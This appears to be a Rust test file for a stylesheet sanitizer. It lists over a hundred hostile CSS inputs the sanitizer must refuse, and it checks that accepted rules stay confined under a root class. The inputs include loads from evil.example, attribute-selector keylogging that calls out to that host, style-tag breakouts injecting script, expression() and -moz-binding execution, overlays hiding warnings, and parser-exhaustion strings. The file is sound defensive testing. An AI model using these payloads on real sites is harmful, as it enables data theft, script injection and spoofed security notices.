//! What people have tried with stylesheets: loading, reading what is typed, leaving the style element, hiding what warns,
//! running, and exhausting the reader. Each is refused as a whole; what comes through never reaches beyond the root.

use omnibus_brander::look::stylesheet::{ROOT, scoped};

/// Refused, whatever else stands beside it.
const REFUSED: &[(&str, &str)] = &[
    // Loading.
    ("import", "@import 'https://evil.example/a.css';"),
    ("import by url()", "@import url(https://evil.example/a.css);"),
    ("import with an escape", "@\\69mport 'https://evil.example/a.css';"),
    ("import in capitals", "@IMPORT \"//evil.example\";"),
    ("import after a rule", ".a{padding:1px}@import '//evil.example';"),
    ("charset", "@charset \"utf-7\";"),
    ("url in background", ".a{background:url(https://evil.example/x.png)}"),
    ("url without a scheme", ".a{background:url(//evil.example/x)}"),
    ("url with quotes", ".a{background-image:url('https://evil.example')}"),
    ("url with an escape", ".a{background:u\\72l(https://evil.example)}"),
    ("url with many zeros", ".a{background:\\000075\\000072\\00006c(https://evil.example)}"),
    ("url in capitals", ".a{background:URL(https://evil.example)}"),
    ("url of a script", ".a{background:url(javascript:alert(1))}"),
    ("url of data", ".a{background:url(data:image/svg+xml;base64,PHN2Zz4=)}"),
    ("url after a comment", ".a{background:/**/url(//evil.example)}"),
    ("src()", ".a{background:src('https://evil.example')}"),
    ("image-set", ".a{background:image-set('https://evil.example/x.png' 1x)}"),
    ("-webkit-image-set", ".a{background-image:-webkit-image-set(url(//evil.example) 1x)}"),
    ("image()", ".a{background-image:image('https://evil.example/x.png')}"),
    ("cross-fade", ".a{background-image:cross-fade(url(a), url(b))}"),
    ("element()", ".a{background:element(#password)}"),
    ("font-face", "@font-face{font-family:x;src:url(https://evil.example/f.woff2)}"),
    ("cursor", ".a{cursor:url(https://evil.example/c.cur),auto}"),
    ("list-style-image", ".a{list-style-image:url(//evil.example)}"),
    ("border-image", ".a{border-image:url(//evil.example) 30}"),
    ("mask", ".a{mask:url(//evil.example#m)}"),
    ("filter", ".a{filter:url(//evil.example#f)}"),
    ("content with a url", ".a::before{content:url(//evil.example)}"),
    ("namespace", "@namespace url(http://www.w3.org/1999/xhtml);"),
    // Reading what is typed.
    ("attribute with a letter", "input[value^=a]{background:url(//evil.example/a)}"),
    ("attribute alone", "input[type=password]{padding:1px}"),
    ("attribute present", "[data-token]{padding:1px}"),
    ("attr()", ".a{width:attr(data-token)}"),
    ("has", "form:has(input){padding:1px}"),
    ("visited", "a:visited{padding:1px}"),
    ("valid", "input:valid{padding:1px}"),
    ("autofill", "input:autofill{padding:1px}"),
    ("checked", "input:checked+a{padding:1px}"),
    ("unicode-range", "@font-face{font-family:p;src:local(a);unicode-range:U+41}"),
    // Leaving the element.
    ("style end", "</style><script>alert(1)</script>"),
    ("style end in a string", ".a{font-family:'</style><script>alert(1)</script>'}"),
    ("style end in a name", ".\\3c\\2fstyle\\3e{padding:1px}"),
    ("style end in a font", ".a{font-family:\"\\3c/style>\"}"),
    ("html comment", "<!-- .a{padding:1px} -->"),
    ("string that does not end", ".a{font-family:'x\n}"),
    // Reaching outside of the root.
    ("nesting", ".a{:not(&){display:none}}"),
    ("nesting a parent", ".a{.b &{padding:1px}}"),
    ("root", ":root{padding:1px}"),
    ("scope", ":scope{padding:1px}"),
    ("host", ":host{padding:1px}"),
    ("slotted", "::slotted(a){padding:1px}"),
    ("part", "::part(a){padding:1px}"),
    ("backdrop", "::backdrop{padding:1px}"),
    ("sibling of the root", "+ .omnibus-consent{padding:1px}"),
    ("later sibling of the root", "~ *{padding:1px}"),
    ("sibling of the root, on some screens", "@media screen{+ .omnibus-consent{padding:1px}}"),
    ("at-scope", "@scope (html){.a{padding:1px}}"),
    ("layer", "@layer reset{.a{padding:1px}}"),
    ("property", "@property --a{syntax:'*';inherits:false}"),
    // Hiding, covering and moving.
    ("fixed", ".a{position:fixed;inset:0}"),
    ("absolute", ".a{position:absolute}"),
    ("sticky", ".a{position:sticky}"),
    ("z-index", ".a{z-index:2147483647}"),
    ("transform", ".a{transform:translateY(-100vh)}"),
    ("translate", ".a{translate:0 -100vh}"),
    ("opacity", ".a{opacity:0}"),
    ("visibility", ".a{visibility:hidden}"),
    ("display none", ".a{display:none}"),
    ("display none, important", ".a{display:none!important}"),
    ("display contents", ".a{display:contents}"),
    ("negative margin", ".a{margin-top:-1000px}"),
    ("negative margin, calculated", ".a{margin:calc(0px - 100vh)}"),
    ("negative margin, mixed", ".a{margin:calc(1px - 10%)}"),
    ("text-indent", ".a{text-indent:-9999px}"),
    ("clip-path", ".a{clip-path:inset(50%)}"),
    ("pointer-events", ".a{pointer-events:none}"),
    ("height", ".a{height:0;overflow:hidden}"),
    ("content", ".a::before{content:'Your session is safe'}"),
    ("generated text", ".a::after{content:counter(a)}"),
    ("float", ".a{float:left}"),
    ("animation", ".a{animation:x 1s}"),
    ("keyframes", "@keyframes x{from{opacity:0}}"),
    ("mix-blend-mode", ".a{mix-blend-mode:difference}"),
    ("user-select", ".a{user-select:none}"),
    ("-webkit-text-security", "input{-webkit-text-security:none}"),
    ("all", ".a{all:unset}"),
    ("zoom", ".a{zoom:100}"),
    // What can't be read: colours and sizes are the theme's, which is judged.
    ("colour of text", ".card,.card *{color:#fff}"),
    ("ground of text", ".card{background:#fff}"),
    ("ground by a gradient", ".card{background-image:linear-gradient(red,blue)}"),
    ("ground by a shadow", ".card{box-shadow:inset 0 0 0 999px #fff}"),
    ("ground by an outer shadow", ".card{box-shadow:0 0 0 999px #fff}"),
    ("ground by a shadow that is moved", ".card{box-shadow:0 500px #fff}"),
    ("ground by a shadow of the window's size", ".card{box-shadow:0 0 0 100vmax #fff}"),
    ("ground by a shadow, calculated", ".card{box-shadow:0 0 0 calc(10px + 20em) #fff}"),
    ("ground by the second of two shadows", ".card{box-shadow:0 0 1px red,0 0 0 300px #fff}"),
    ("ground by a border", ".card{border:600px solid #fff}"),
    ("ground by one side's border", ".card{border-bottom-width:40em}"),
    ("cover by an outline", "h1{outline:300px solid #fff}"),
    ("cover by a line through", "p{text-decoration:line-through 3em #fff}"),
    ("cover by a line of per cent", "p{text-decoration-thickness:900%}"),
    ("text lifted away", "span{vertical-align:500px}"),
    ("size of text", ".card{font-size:0}"),
    ("size of text, in short", ".card{font:0/0 a}"),
    ("height of lines", ".card{line-height:0}"),
    // Running, in browsers past and present.
    ("expression", ".a{width:expression(alert(1))}"),
    ("expression with a comment", ".a{width:expr/**/ession(alert(1))}"),
    ("expression with an escape", ".a{width:\\65xpression(alert(1))}"),
    ("behavior", ".a{behavior:url(x.htc)}"),
    ("-moz-binding", ".a{-moz-binding:url(//evil.example/x.xml#y)}"),
    ("paint()", ".a{background:paint(x)}"),
    ("variables", ".a{color:var(--x)}"),
    ("variable defined", ".a{--x:url(//evil.example)}"),
    ("env()", ".a{padding:env(safe-area-inset-top)}"),
    ("star hack", ".a{*width:expression(1)}"),
    ("supports", "@supports (display:grid){.a{padding:1px}}"),
    ("document", "@-moz-document url(http://x){.a{padding:1px}}"),
    ("unknown at-rule", "@evil{.a{padding:1px}}"),
    // Confusing the reader.
    ("bracket that closes nothing", "}.a{padding:1px}"),
    ("bracket of another kind", ".a{color:rgb(1,2,3}}"),
    ("media in media", "@media screen{@media (width){.a{padding:1px}}}"),
    ("url in a media query", "@media (foo:url(//evil.example)){.a{padding:1px}}"),
];

#[test]
fn every_attack_is_refused_with_words() {
    assert!(REFUSED.len() >= 60);
    for (name, css) in REFUSED {
        match scoped(css) {
            Err(refused) => assert!(!refused.to_string().is_empty(), "{name}"),
            Ok(out) => panic!("{name} came through: {out}"),
        }
        let hidden = format!(".ok{{padding:1px}}\n{css}\n.fine{{margin:0}}");
        assert!(scoped(&hidden).is_err(), "{name}, between good rules");
    }
}

#[test]
fn deep_brackets_and_long_selectors_end_neither_the_stack_nor_the_patience() {
    for (open, close) in [("(", ")"), ("[", "]"), ("{", "}"), (":not(", ")"), ("calc(", ")"), (":is(:where(", "))")] {
        for times in [40, 400, 4000] {
            let css = format!("a{}b{}{{padding:1px}}", open.repeat(times), close.repeat(times));
            assert!(scoped(&css).is_err(), "{times} times {open}");
            assert!(scoped(&format!("a{}", open.repeat(times))).is_err(), "{times} times {open}, never closed");
        }
    }
    let long = format!("{} {{padding:1px}}", "a>".repeat(2000) + "a");
    assert!(scoped(&long).is_err());
    let wide = format!("{} {{padding:1px}}", vec!["a"; 5000].join(","));
    assert!(scoped(&wide).is_err());
    let full = ".abcdefgh{border:1px solid red}".repeat(800);
    // What else the machine does makes one try slow, and not all.
    let soon = (0..20).any(|_| {
        let started = std::time::Instant::now();
        assert!(scoped(&full).is_ok());
        started.elapsed() < std::time::Duration::from_secs(5)
    });
    assert!(soon, "no try of twenty ended within five seconds");
}

#[test]
fn a_comment_that_does_not_end_is_left_behind_with_all_that_is_in_it() {
    assert_eq!(scoped(".a{padding:1px} /* </style><script>").unwrap(), format!(".{ROOT} .a{{padding:1px}}\n"));
}

/// Taken, and still nothing but the brand's own part is reached.
#[test]
fn whatever_comes_through_stands_below_the_root() {
    let css = scoped(
        "html, body, * { padding: 0 }
         .omnibus-security, #consent a, header + main { padding: 1px }
         a:hover, .a > .b ~ .c:not(.d):nth-child(2n+1) { margin: 0 auto; border: 1px solid rgb(0 0 0 / 50%) }
         @media (prefers-color-scheme: dark) { p { padding: 2px } }",
    )
    .unwrap();
    for line in css.lines().filter(|line| line.contains('{') && !line.starts_with('@')) {
        let (selectors, _) = line.split_once('{').unwrap();
        for selector in selectors.split(',') {
            assert!(selector.starts_with(&format!(".{ROOT} ")), "{line}");
        }
    }
    assert!(!css.contains("url") && !css.contains('<'), "{css}");
    assert!(css.lines().all(|line| !line.contains('@') || line.starts_with("@media ")), "{css}");
    assert_eq!(scoped(&css).unwrap().lines().count(), css.lines().count(), "what came out goes in again");
}
